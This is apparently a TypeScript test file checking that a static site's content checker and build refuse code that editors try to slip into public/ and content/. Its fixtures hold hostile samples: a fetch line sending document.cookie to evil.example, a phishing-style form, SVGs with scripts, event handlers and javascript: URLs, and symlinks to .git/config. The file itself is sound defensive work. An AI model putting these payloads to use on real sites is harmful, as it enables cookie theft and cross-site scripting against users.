/**
 * An editor's pull request cannot add code (issue 34): content/ and public/ hold
 * only what a guide uses, and `npm run check` and the build refuse anything
 * else, naming the file and what to do. Planted as an attacker would: a web
 * page and a script among the pictures, SVGs that run code or load another
 * site, a `.png` that is a web page, and shortcuts (symbolic links) to files of
 * the machine that builds the site.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { checkContent } from '../../src/engine/node/checks/check-content.ts';
import { siteFileProblems } from '../../src/engine/node/checks/site-files.ts';
import { svgPictureProblems } from '../../src/engine/node/checks/svg-picture.ts';
import { loadContentGraph } from '../../src/engine/node/graph/content-graph.ts';
import { buildSite } from '../../src/engine/node/publish/build-site.ts';

const projectRoot = path.resolve(import.meta.dirname, '../..');
const fixtures = path.join(projectRoot, 'tests/fixtures');
const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) fs.rmSync(folder, { recursive: true, force: true });
});

/** A project folder with the good fixture's content/ and a public/ holding `files` (text, bytes, or a symbolic link's target). */
function project(files: Record<string, string | Buffer | { link: string }>): string {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'site-files-'));
  folders.push(root);
  fs.cpSync(path.join(fixtures, 'check-ok'), root, { recursive: true });
  for (const [name, value] of Object.entries(files)) {
    const file = path.join(root, name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    if (typeof value === 'object' && 'link' in value) fs.symlinkSync(value.link, file);
    else fs.writeFileSync(file, value);
  }
  return root;
}

const problemsIn = (root: string) => siteFileProblems(path.join(root, 'content'), path.join(root, 'public')).map(({ file, line, message }) => ({ file, line, message }));

const PNG = fs.readFileSync(path.join(fixtures, 'check-ok/public/images/portal.png'));
const PICTURE_SVG = '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><style><![CDATA[ .a { fill: url(#g) } ]]></style><!-- a comment --><use xlink:href="#r"/><rect id="r" class="a" width="10" height="10" style="fill: url( \'#g\')"/><text x="1" y="5">A &amp; B &lt; C</text></svg>\n';

describe('what an edit may add to public/ and content/', { timeout: 60_000 }, () => {
  it('pictures of every kind a guide uses, and an SVG that is only a picture, pass', () => {
    const root = project({
      'public/images/a.png': PNG,
      'public/images/b.JPG': Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1]),
      'public/images/c.webp': Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(4), Buffer.from('WEBPVP8 '), Buffer.alloc(8)]),
      'public/images/d.avif': Buffer.concat([Buffer.from([0, 0, 0, 0x1c]), Buffer.from('ftypavif'), Buffer.alloc(4), Buffer.from('avifmif1miaf'), Buffer.alloc(8)]),
      'public/images/e.svg': PICTURE_SVG,
      'public/images/staff/f.jpeg': Buffer.from([0xff, 0xd8, 0xff, 0xdb, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
      'public/images/README.md': '# Pictures\n',
    });
    expect(problemsIn(root)).toEqual([]);
    expect(svgPictureProblems(fs.readFileSync(path.join(projectRoot, 'src/head/favicon.svg'), 'utf8'))).toEqual([]);
  });

  it('refuses a web page, a script, other files, a picture outside images/ and a picture that is not what its name says', () => {
    const root = project({
      'public/images/sign-in.html': '<!doctype html><form action="https://evil.example/">',
      'public/images/sign-in.js': 'fetch("https://evil.example/" + document.cookie)',
      'public/sw.js': 'self.addEventListener("fetch", () => {})',
      'public/images/notes.pdf': '%PDF-1.4',
      'public/images/.htaccess': 'Options +Indexes',
      'public/logo.png': PNG,
      'public/images/photo.png': '<html><script>alert(1)</script></html>',
      'content/guides/page.html': '<script>alert(1)</script>',
      'content/guides/picture.png': PNG,
    });
    const problems = problemsIn(root);
    const other = 'only pictures (PNG, JPG, WebP, AVIF or SVG) can be added to public/; this is another kind of file';
    expect(problems).toEqual(expect.arrayContaining([
      { file: 'public/images/sign-in.html', line: undefined, message: other },
      { file: 'public/images/sign-in.js', line: undefined, message: other },
      { file: 'public/sw.js', line: undefined, message: other },
      { file: 'public/images/notes.pdf', line: undefined, message: other },
      { file: 'public/images/.htaccess', line: undefined, message: other },
      { file: 'public/logo.png', line: undefined, message: 'pictures go in public/images/' },
      { file: 'public/images/photo.png', line: undefined, message: 'is not a PNG picture, as its name says: it holds another kind of file' },
      { file: 'content/guides/page.html', line: undefined, message: 'only guides (.mdx) and the settings files (.yaml) can be added to content/' },
      { file: 'content/guides/picture.png', line: undefined, message: 'only guides (.mdx) and the settings files (.yaml) can be added to content/' },
    ]));
    expect(problems).toHaveLength(9);
  });

  it('refuses symbolic links, to a file or a folder of the machine, in public/ and in content/', () => {
    const root = project({
      'public/images/config.png': { link: path.join(projectRoot, 'package.json') },
      'public/images/project': { link: projectRoot },
      'public/images/up.svg': { link: '../../../../.git/config' },
      'content/guides/linked.mdx': { link: path.join(fixtures, 'check-ok/content/index.mdx') },
    });
    const shortcut = 'is a shortcut (a symbolic link) to another file, which the site never publishes';
    expect(problemsIn(root)).toEqual([
      { file: 'content/guides/linked.mdx', line: undefined, message: shortcut },
      { file: 'public/images/config.png', line: undefined, message: shortcut },
      { file: 'public/images/project', line: undefined, message: shortcut },
      { file: 'public/images/up.svg', line: undefined, message: shortcut },
    ]);
  });

  it.each([
    ['a script', '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>', 2, 'holds a script (<script>), which would run on the site'],
    ['a script with a namespace prefix', '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script href="#x"/></svg:svg>', 1, 'holds a script (<script>), which would run on the site'],
    ['an event handler', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 1, 'has an event handler (onload="…"), which runs code'],
    ['an event handler after a value with >', '<svg xmlns="http://www.w3.org/2000/svg"><rect title=">" onclick="x()"/></svg>', 1, 'has an event handler (onclick="…"), which runs code'],
    ['a foreignObject', '<svg xmlns="http://www.w3.org/2000/svg">\n\n<foreignObject><div/></foreignObject></svg>', 3, 'holds a <foreignObject>: a web page inside the picture'],
    ['a link elsewhere', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://evil.example/">x</a></svg>', 1, 'refers to another file or site (xlink:href="https://evil.example/")'],
    ['an outside picture', '<svg xmlns="http://www.w3.org/2000/svg"><image href="//evil.example/x.png"/></svg>', 1, 'refers to another file or site (href="//evil.example/x.png")'],
    ['a javascript: address', '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)">x</a></svg>', 1, 'holds a javascript: address, which runs code'],
    ['a javascript: address in character references', '<svg xmlns="http://www.w3.org/2000/svg"><a href="&#106;avascript&#x3a;alert(1)">x</a></svg>', 1, 'holds a javascript: address, which runs code'],
    ['an outside style', '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example/x.css";</style></svg>', 1, 'loads a style or picture from another file or site'],
    ['an outside url() in a style', '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: url(https://evil.example/p.svg#a)"/></svg>', 1, 'refers to another file or site (url(…) that is not url(#…))'],
    ['its own entities', '<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', 1, 'defines entities of its own (<!ENTITY …>), which can hide code'],
    ['a style sheet instruction', '<?xml-stylesheet type="text/xsl" href="page.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>', 1, 'holds an instruction (<?xml-stylesheet …?>) that can turn the picture into a page'],
    ['web page markup', '<svg xmlns="http://www.w3.org/2000/svg"><g xmlns="http://www.w3.org/1999/&#120;html"><iframe src="#"/></g></svg>', 1, 'holds an <iframe>: another page inside the picture'],
    ['an animated link', '<svg xmlns="http://www.w3.org/2000/svg"><a href="#"><set attributeName="href" to="#x"/>x</a></svg>', 1, 'animates a link or an event handler (attributeName="href")'],
    ['a tag XML cannot read', '<svg xmlns="http://www.w3.org/2000/svg"><rect onload=alert(1) /></svg>', 1, 'cannot be read as an SVG picture (a tag is not written as XML requires)'],
    ['no svg at all', '<html><body>hello</body></html>', 1, 'is not an SVG picture (it starts with <html>, not <svg>)'],
  ])('refuses an SVG with %s, at its line', (_, svg, line, message) => {
    const root = project({ 'public/images/drawing.svg': svg });
    expect(problemsIn(root)).toContainEqual({ file: 'public/images/drawing.svg', line, message: `this SVG ${message}` });
  });

  it('npm run check names each file, says what to do, and fails', async () => {
    const root = project({ 'public/images/sign-in.html': '<!doctype html>', 'public/images/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>' });
    const { problems } = checkContent(await loadContentGraph({ contentDir: path.join(root, 'content'), today: new Date('2026-11-22T12:00:00Z') }), { publicDir: path.join(root, 'public') });
    expect(problems.filter((problem) => problem.severity === 'error').map(({ file, hint }) => ({ file, hint }))).toEqual([
      { file: 'public/images/logo.svg', hint: expect.stringMatching(/^save the picture as PNG instead/) },
      { file: 'public/images/sign-in.html', hint: expect.stringMatching(/^delete it: a web page or a script here would run as the site itself/) },
    ]);
  });

  it('the build refuses them before it writes or copies anything', async () => {
    const root = project({ 'public/images/sign-in.html': '<!doctype html>', 'public/images/passwd.png': { link: path.join(projectRoot, 'package.json') } });
    const outDir = path.join(root, 'dist');
    const said: string[] = [];
    vi.spyOn(console, 'log').mockImplementation((text: string) => void said.push(text));
    try {
      await expect(buildSite({ contentDir: path.join(root, 'content'), publicDir: path.join(root, 'public'), outDir, quiet: true })).rejects.toThrow(/content check found errors/);
    } finally {
      vi.restoreAllMocks();
    }
    expect(said.join('\n')).toMatch(/public\/images\/sign-in\.html: only pictures/);
    expect(said.join('\n')).toMatch(/public\/images\/passwd\.png: is a shortcut/);
    expect(fs.existsSync(outDir)).toBe(false);
  });
});
